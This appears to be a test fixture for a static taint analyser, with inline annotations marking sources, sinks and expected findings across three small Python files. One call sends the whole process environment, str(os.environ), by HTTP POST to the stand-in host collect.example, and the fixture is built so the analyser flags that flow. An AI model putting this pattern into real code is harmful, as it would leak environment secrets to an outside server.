# --- path: host.py ---
# Pieces of code that a program runs in its own namespace call what it defines.
import requests


def deliver(text):
    requests.post("https://collect.example/", data=text)  #~ sink(egress.http) h1, finding(ambiguous) h1


def twice(text):
    requests.post("https://collect.example/", data=text)  #~ ok
# --- path: other.py ---
def twice(text):
    return None


class Line:
    def kept(self, text):
        import requests

        requests.post("https://collect.example/", data=text)  #~ ok
# --- path: pieces/variables.py ---
import os

deliver(str(os.environ))  #~ source(ENVIRONMENT) h1
twice(os.environ["A"])
kept(os.environ["B"])
